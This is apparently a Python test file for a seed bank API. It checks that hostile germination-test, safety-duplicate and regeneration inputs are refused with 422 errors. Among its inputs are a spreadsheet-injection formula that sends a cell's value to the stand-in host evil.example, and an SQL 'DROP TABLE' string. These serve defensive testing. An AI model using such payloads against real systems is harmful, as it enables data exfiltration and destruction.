"""Hostile input to the seed bank: replicate counts that do not add up to the replicate's
seeds, negative counts, 10,000 replicates, a formula for a site code or name. Each is refused
with a 422 naming the field (or, for a name, kept as text), never a 500, and nothing is made
by a refused one."""

from __future__ import annotations

import pytest

from repository.db import unit_of_work
from tests.clients import call
from tests.factories import add_collection, add_material, preserve

REPLICATE = {"seeds": 100, "normal": 90, "dead": 10}
TEST = {"tested_on": "2025-01-01", "replicates": [REPLICATE] * 4}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Svalbard")'


@pytest.fixture(scope="module")
def seed_lot(world) -> int:
    """A seed lot of this module's own, in a seed bank of its own."""
    with unit_of_work(world.app.extensions["biorepo"]) as db:
        add_collection(db, {"code": "SBX", "name": "Seeds", "kind": "seed_bank"})
        seed = add_material(
            db, "SBX", {"kind": "seed", "designation": "IR64", "taxon_name": "Oryza sativa"}
        )
        lot = preserve(
            db,
            seed,
            {
                "method": "dried_seed_minus18",
                "preserved_on": "2024-01-01",
                "items": 2,
                "quantity": "100",
                "unit": "seeds",
                "form": "seed_packet",
            },
        )
        return lot.id


HOSTILE_TESTS = {
    "counts under the replicate's seeds": {"replicates": [{"seeds": 100, "normal": 50}]},
    "counts over the replicate's seeds": {"replicates": [{"seeds": 50, "normal": 50, "dead": 1}]},
    "a negative count": {"replicates": [{"seeds": 100, "normal": 110, "dead": -10}]},
    "a huge count": {"replicates": [{"seeds": 2**40, "normal": 2**40}]},
    "10,000 replicates": {"replicates": [REPLICATE] * 10_000},
    "no replicate": {"replicates": []},
    "replicates that are not a list": {"replicates": {"seeds": 100}},
    "a count that is text": {"replicates": [{**REPLICATE, "normal": "90; DROP TABLE lots"}]},
    "days of none": {"days": 0},
}


@pytest.mark.parametrize("fields", HOSTILE_TESTS.values(), ids=HOSTILE_TESTS.keys())
def test_hostile_germination_tests_are_a_422(world, seed_lot, fields):
    app, tokens, _ = world
    path = f"/api/v1/lots/{seed_lot}/germination-tests"
    response = call(app, "POST", path, tokens["technician"], {**TEST, **fields})
    assert response.status_code == 422, response.data[:500]
    assert set(response.json["errors"]) == set(fields)
    assert len(response.data) < 4096, "the answer grows with the attack"
    tests = call(app, "GET", path, tokens["technician"])
    assert tests.status_code == 200 and tests.json["tests"] == []


def test_a_germination_test_of_a_lot_that_is_not_seed_is_refused(world):
    app, tokens, ids = world
    path = f"/api/v1/lots/{ids['lot']}/germination-tests"
    response = call(app, "POST", path, tokens["technician"], TEST)
    assert response.status_code in (409, 422), response.data[:500]


def test_a_formula_is_no_site_code_and_stays_text_as_a_name(world, seed_lot):
    app, tokens, _ = world
    path = f"/api/v1/lots/{seed_lot}/safety-duplicates"
    duplicate = {"institute_code": FORMULA, "sent_on": "2025-01-01"}
    refused = call(app, "POST", path, tokens["technician"], duplicate)
    assert refused.status_code == 422 and "institute_code" in refused.json["errors"]
    named = {**duplicate, "institute_code": "NOR051", "institute_name": FORMULA}
    kept = call(app, "POST", path, tokens["technician"], named)
    assert kept.status_code == 201, kept.data[:500]
    assert kept.json["institute_name"] == FORMULA
    again = call(app, "POST", path, tokens["technician"], named)
    assert again.status_code == 409


def test_a_formula_site_and_hostile_regeneration_fields_are_no_500(world, seed_lot):
    app, tokens, _ = world
    path = f"/api/v1/lots/{seed_lot}/regenerations"
    body = {
        "site": FORMULA,
        "plants": 10,
        "isolation": "bagging",
        "harvested_on": "2025-06-01",
        "seeds_harvested": 500,
        "items": 2,
        "quantity": "100",
        "unit": "seeds",
    }
    for hostile in (
        {"plants": -1},
        {"isolation": "prayer"},
        {"seeds_harvested": -5},
        {"quantity": "300"},  # 600 seeds stored, 500 harvested
        {"site": ""},
    ):
        response = call(app, "POST", path, tokens["technician"], {**body, **hostile})
        assert response.status_code == 422, (hostile, response.data[:500])
    made = call(app, "POST", path, tokens["technician"], body)
    assert made.status_code == 201, made.data[:500]
    assert made.json["site"] == FORMULA and made.json["regeneration_cycle"] == 1


def test_a_requester_records_nothing(world, seed_lot):
    app, tokens, _ = world
    path = f"/api/v1/lots/{seed_lot}/germination-tests"
    assert call(app, "POST", path, tokens["requester"], TEST).status_code == 403
